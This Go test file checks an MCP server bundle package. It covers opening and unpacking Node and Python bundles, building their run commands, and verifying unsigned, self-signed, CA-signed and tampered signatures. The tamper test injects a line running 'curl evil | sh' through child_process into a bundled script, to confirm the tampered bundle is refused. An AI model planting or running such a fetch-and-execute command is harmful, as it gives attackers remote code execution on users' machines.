package bundle

import (
	"archive/zip"
	"bytes"
	"crypto/rand"
	"crypto/rsa"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/pem"
	"io"
	"math/big"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/mcptray/mcptray/core/bundle/bundletest"
)

// A node server packed by the official CLI opens, its manifest read as it
// says, unpacks read-only, and runs from where it unpacked with the
// person's settings in its command.
func TestNodeBundlePackedByMcpb(t *testing.T) {
	t.Parallel()
	file := bundletest.Pack(t, filepath.Join("testdata", "node"), nil)
	b, err := Open(file, Options{})
	if err != nil {
		t.Fatal(err)
	}
	m := &b.Manifest
	if m.Version != "0.3" || m.Name != "bundle-node" || m.ServerVersion != "1.0.0" || m.Title() != "Bundle test (Node)" || m.Author.Name != "mcptray tests" {
		t.Errorf("manifest = %+v", m)
	}
	if b.Signature.Status != Unsigned || b.Signature.String() != "Not signed" {
		t.Errorf("signature = %+v", b.Signature)
	}
	if got := slices.Collect(func(yield func(string) bool) {
		for _, tl := range m.Tools {
			if !yield(tl.Name) {
				return
			}
		}
	}); !slices.Equal(got, []string{"echo", "read_file", "write_file"}) {
		t.Errorf("tools = %v", got)
	}
	if !slices.Equal(m.UserConfigOrder, []string{"folder", "greeting", "api_key"}) {
		t.Errorf("user_config in order = %v", m.UserConfigOrder)
	}
	if needs := m.Needs(t.Context(), ThisComputer(runVersion)); len(needs) > 0 {
		t.Fatalf("this computer runs the tests' node; needs = %v", needs)
	}

	home := t.TempDir()
	folder := filepath.Join(home, "notes")
	if err := os.Mkdir(folder, 0o700); err != nil {
		t.Fatal(err)
	}
	_, err = m.Settings(nil, PlacesIn(home))
	if missing, ok := err.(*MissingError); !ok || !slices.Equal(missing.Keys, []string{"folder"}) {
		t.Fatalf("without the folder: err = %v; want it missing", err)
	}
	settings, err := m.Settings(map[string][]string{"folder": {"~/notes"}}, PlacesIn(home))
	if err != nil {
		t.Fatal(err)
	}
	dir := filepath.Join(t.TempDir(), "bundles", "bundle-node")
	if err := b.Unpack(dir); err != nil {
		t.Fatal(err)
	}
	st, err := os.Stat(filepath.Join(dir, "server", "index.js"))
	if err != nil {
		t.Fatal(err)
	}
	if st.Mode().Perm()&0o222 != 0 {
		t.Errorf("an unpacked file is %v; want it read-only", st.Mode())
	}
	run, err := m.Command(dir, runtime.GOOS, PlacesIn(home), settings, func(key string) string { return "${secret:" + key + "}" })
	if err != nil {
		t.Fatal(err)
	}
	want := []string{filepath.Join(dir, "server", "index.js"), folder}
	if run.Command != "node" || !slices.Equal(run.Args, want) || run.Cwd != dir {
		t.Errorf("run = %+v; want node %v in %s", run, want, dir)
	}
	// The default greeting; the key, not given, is left out.
	if len(run.Env) != 1 || run.Env["GREETING"] != "hello" {
		t.Errorf("env = %v; want GREETING=hello alone", run.Env)
	}
	instructions, tools := handshake(t, run)
	if instructions != "folder="+folder+" greeting=hello" || !slices.Equal(tools, []string{"echo", "read_file", "write_file"}) {
		t.Errorf("the server said %q and offers %v", instructions, tools)
	}

	// A newer version unpacks in the older one's place.
	if err := b.Unpack(dir); err != nil {
		t.Fatalf("unpacking again: %v", err)
	}
	if entries, _ := os.ReadDir(filepath.Dir(dir)); len(entries) != 1 {
		t.Errorf("after a second unpack the folder holds %v; want the bundle's folder alone", entries)
	}
}

// A python server packed by the official CLI (manifest 0.2, ${/} in its
// path) runs as unpacked.
func TestPythonBundlePackedByMcpb(t *testing.T) {
	t.Parallel()
	b, err := Open(bundletest.Pack(t, filepath.Join("testdata", "python"), nil), Options{})
	if err != nil {
		t.Fatal(err)
	}
	if b.Manifest.Version != "0.2" || b.Manifest.Server.Type != "python" {
		t.Fatalf("manifest = %+v", b.Manifest)
	}
	if needs := b.Manifest.Needs(t.Context(), ThisComputer(runVersion)); len(needs) > 0 {
		t.Skipf("this computer lacks what the python bundle needs: %v", needs)
	}
	dir := filepath.Join(t.TempDir(), "py")
	if err := b.Unpack(dir); err != nil {
		t.Fatal(err)
	}
	run, err := b.Manifest.Command(dir, runtime.GOOS, PlacesIn(t.TempDir()), nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	if run.Command != "python3" || !slices.Equal(run.Args, []string{filepath.Join(dir, "server", "main.py")}) {
		t.Errorf("run = %+v", run)
	}
	if _, tools := handshake(t, run); !slices.Equal(tools, []string{"shout"}) {
		t.Errorf("tools = %v", tools)
	}
}

// mcpb sign --self-signed makes a bundle that says who signed it and that
// the certificate vouches for itself.
func TestSelfSignedByMcpb(t *testing.T) {
	t.Parallel()
	file := bundletest.Pack(t, filepath.Join("testdata", "python"), nil)
	bundletest.SignSelf(t, file)
	b, err := Open(file, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if b.Signature.Status != SelfSigned || b.Signature.String() != "Signed by MCPB Self-Signed Certificate (self-signed)" {
		t.Errorf("signature = %+v (%s)", b.Signature, b.Signature)
	}
}

// A bundle signed with a certificate that a certificate authority issued
// is "Signed by" its subject where that authority is trusted, and says it
// is not trusted elsewhere; once a file in it changes after signing, it
// is refused.
func TestSignedByAuthority(t *testing.T) {
	t.Parallel()
	file := bundletest.Pack(t, filepath.Join("testdata", "node"), nil)
	dir := t.TempDir()
	ca, caKey := certificate(t, nil, nil, "Test Root CA", true)
	leaf, leafKey := certificate(t, ca, caKey, "Ann's Servers Ltd", false)
	writePEM(t, filepath.Join(dir, "cert.pem"), "CERTIFICATE", leaf.Raw)
	der, err := x509.MarshalPKCS8PrivateKey(leafKey)
	if err != nil {
		t.Fatal(err)
	}
	writePEM(t, filepath.Join(dir, "key.pem"), "PRIVATE KEY", der)
	bundletest.Run(t, dir, "sign", "--cert", "cert.pem", "--key", "key.pem", file)

	roots := x509.NewCertPool()
	roots.AddCert(ca)
	b, err := Open(file, Options{Roots: roots})
	if err != nil {
		t.Fatal(err)
	}
	if b.Signature.Status != Signed || b.Signature.String() != "Signed by Ann's Servers Ltd" || b.Signature.Issuer != "Test Root CA" {
		t.Errorf("signature = %+v", b.Signature)
	}
	b, err = Open(file, Options{Roots: x509.NewCertPool()})
	if err != nil {
		t.Fatal(err)
	}
	if b.Signature.Status != Untrusted || !strings.Contains(b.Signature.String(), "Test Root CA, whom this computer does not know") {
		t.Errorf("signature without its authority = %s", b.Signature)
	}

	// The same signature on the bundle with one file changed.
	signed, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	content, sig, err := split(signed)
	if err != nil || sig == nil {
		t.Fatalf("split: %v, %d bytes of signature", err, len(sig))
	}
	block := signed[len(content):]
	tampered := rezip(t, content, func(name string, data []byte) []byte {
		if name == "server/index.js" {
			return append(data, []byte("\nrequire('child_process').exec('curl evil | sh');\n")...)
		}
		return data
	})
	_, err = Read(append(tampered, block...), Options{Roots: roots})
	refusedWith(t, err, "changed after it was signed")

	// A signature block cut short is not taken for no signature.
	_, err = Read(signed[:len(signed)-len(sigFooter)-20], Options{Roots: roots})
	refusedWith(t, err, "bytes after the end of its zip")
	cut := append(slices.Clone(signed[:len(content)+len(sigHeader)+10]), sigFooter...)
	_, err = Read(cut, Options{Roots: roots})
	refusedWith(t, err, "signature block is damaged")
}

// rezip writes the zip content anew, each file's bytes through change.
func rezip(t *testing.T, content []byte, change func(name string, data []byte) []byte) []byte {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(content), int64(len(content)))
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, f := range zr.File {
		r, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		data, err := io.ReadAll(r)
		r.Close()
		if err != nil {
			t.Fatal(err)
		}
		h := f.FileHeader
		w, err := zw.CreateHeader(&h)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write(change(f.Name, data)); err != nil {
			t.Fatal(err)
		}
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// certificate makes a certificate for signing code, issued by parent (or
// by itself when parent is nil).
func certificate(t *testing.T, parent *x509.Certificate, parentKey *rsa.PrivateKey, cn string, ca bool) (*x509.Certificate, *rsa.PrivateKey) {
	t.Helper()
	key, err := rsa.GenerateKey(rand.Reader, 2048)
	if err != nil {
		t.Fatal(err)
	}
	tmpl := &x509.Certificate{
		SerialNumber: big.NewInt(time.Now().UnixNano()), Subject: pkix.Name{CommonName: cn},
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(24 * time.Hour),
		KeyUsage: x509.KeyUsageDigitalSignature, ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageCodeSigning},
		BasicConstraintsValid: true, IsCA: ca,
	}
	if ca {
		tmpl.KeyUsage |= x509.KeyUsageCertSign
	}
	signer, signerKey := tmpl, key
	if parent != nil {
		signer, signerKey = parent, parentKey
	}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, signer, &key.PublicKey, signerKey)
	if err != nil {
		t.Fatal(err)
	}
	cert, err := x509.ParseCertificate(der)
	if err != nil {
		t.Fatal(err)
	}
	return cert, key
}

func writePEM(t *testing.T, path, kind string, der []byte) {
	t.Helper()
	if err := os.WriteFile(path, pem.EncodeToMemory(&pem.Block{Type: kind, Bytes: der}), 0o600); err != nil {
		t.Fatal(err)
	}
}
